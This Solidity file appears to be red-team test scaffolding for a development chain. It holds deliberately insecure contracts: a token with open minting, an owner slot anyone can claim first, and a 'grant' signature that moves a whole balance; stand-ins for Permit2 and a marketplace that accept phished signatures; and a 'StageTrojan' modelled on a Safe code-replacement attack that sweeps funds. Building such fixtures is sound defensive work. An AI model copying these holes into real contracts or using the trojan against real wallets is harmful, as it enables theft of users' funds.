// SPDX-License-Identifier: MIT OR Apache-2.0
// What the attacks of the red team find on a development chain. None of this is meant for any other chain: the token
// mints for everybody, the trojan gives everything away, and nothing is checked that an attack does not need checked.
pragma solidity 0.8.30;

/// A token with permits, an owner and code that can be replaced. Everybody may mint.
contract StageToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => mapping(address => bool)) public isApprovedForAll;
    mapping(address => uint256) public nonces;
    address public owner;
    address public implementation;

    bytes32 constant DOMAIN = keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)");
    bytes32 constant PERMIT = keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    bytes32 constant GRANT = keccak256("Grant(address to,bool everything)");

    function mint(address to, uint256 amount) external {
        balanceOf[to] += amount;
    }

    function own(address by) external {
        require(owner == address(0));
        owner = by;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (!isApprovedForAll[from][msg.sender]) allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function increaseAllowance(address spender, uint256 amount) external returns (bool) {
        unchecked {
            allowance[msg.sender][spender] += amount;
        }
        return true;
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
    }

    function permit(address from, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline);
        bytes32 content = keccak256(abi.encode(PERMIT, from, spender, value, nonces[from]++, deadline));
        require(ecrecover(_digest("Token", content), v, r, s) == from);
        allowance[from][spender] = value;
    }

    /// What the unknown typed data of the red team is for: whoever has it, has everything.
    function grant(address from, address to, bool everything, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 content = keccak256(abi.encode(GRANT, to, everything));
        require(ecrecover(_digest("Vault", content), v, r, s) == from);
        _move(from, to, balanceOf[from]);
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner);
        owner = to;
    }

    function upgradeTo(address code) external {
        require(msg.sender == owner);
        implementation = code;
    }

    function upgradeToAndCall(address code, bytes calldata) external {
        require(msg.sender == owner);
        implementation = code;
    }

    /// A withdrawal that no table of functions knows.
    function withdrawERC20For(uint256, address to, uint256 amount) external {
        _move(msg.sender, to, amount);
    }

    function _move(address from, address to, uint256 amount) private {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }

    function _digest(string memory name, bytes32 content) private view returns (bytes32) {
        bytes32 domain = keccak256(abi.encode(DOMAIN, keccak256(bytes(name)), keccak256("1"), block.chainid, address(this)));
        return keccak256(abi.encodePacked(hex"1901", domain, content));
    }
}

/// As much of Permit2 as a phished permit needs.
contract StagePermit2 {
    struct PermitDetails {
        address token;
        uint160 amount;
        uint48 expiration;
        uint48 nonce;
    }

    struct PermitSingle {
        PermitDetails details;
        address spender;
        uint256 sigDeadline;
    }

    bytes32 constant DOMAIN = keccak256("EIP712Domain(string name,uint256 chainId,address verifyingContract)");
    bytes32 constant DETAILS = keccak256("PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)");
    bytes32 constant SINGLE = keccak256(
        "PermitSingle(PermitDetails details,address spender,uint256 sigDeadline)PermitDetails(address token,uint160 amount,uint48 expiration,uint48 nonce)"
    );

    function take(address from, PermitSingle calldata permit, address to, uint256 amount, uint8 v, bytes32 r, bytes32 s) external {
        require(msg.sender == permit.spender && block.timestamp <= permit.sigDeadline && amount <= permit.details.amount);
        bytes32 details = keccak256(abi.encode(DETAILS, permit.details));
        bytes32 content = keccak256(abi.encode(SINGLE, details, permit.spender, permit.sigDeadline));
        bytes32 domain = keccak256(abi.encode(DOMAIN, keccak256("Permit2"), block.chainid, address(this)));
        require(ecrecover(keccak256(abi.encodePacked(hex"1901", domain, content)), v, r, s) == from);
        StageToken(permit.details.token).transferFrom(from, to, amount);
    }
}

/// As much of a market as an order without a price needs: one item given, and whatever is asked for paid.
contract StageMarket {
    /// The digest is computed by whoever calls, from the signed order; the stage shows what the signature is good for.
    function fulfil(bytes32 digest, address offerer, address token, uint256 amount, address to, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(digest, v, r, s) == offerer);
        StageToken(token).transferFrom(offerer, to, amount);
    }
}

/// The attack of February 2025 and its relatives: called by a Safe it replaces the code that the Safe runs by itself.
contract StageTrojan {
    address private code;

    function transfer(address to, uint256) external returns (bool) {
        code = to;
        return true;
    }

    function pwn(address to) external {
        code = to;
    }

    function sweep(address token, address payable to) external {
        StageToken(token).transfer(to, StageToken(token).balanceOf(address(this)));
        to.transfer(address(this).balance);
    }

    receive() external payable {}
}

/// The honest account program that a delegated wallet runs, and the sweeper that it should not.
contract StageAccount {
    struct Call {
        address to;
        uint256 value;
        bytes data;
    }

    function execute(address to, uint256 value, bytes calldata data) public {
        require(msg.sender == address(this));
        (bool done, ) = to.call{value: value}(data);
        require(done);
    }

    function executeBatch(Call[] calldata calls) external {
        for (uint256 i = 0; i < calls.length; i++) this.executeOne(calls[i]);
    }

    function executeOne(Call calldata one) external {
        require(msg.sender == address(this));
        (bool done, ) = one.to.call{value: one.value}(one.data);
        require(done);
    }

    receive() external payable {}
}
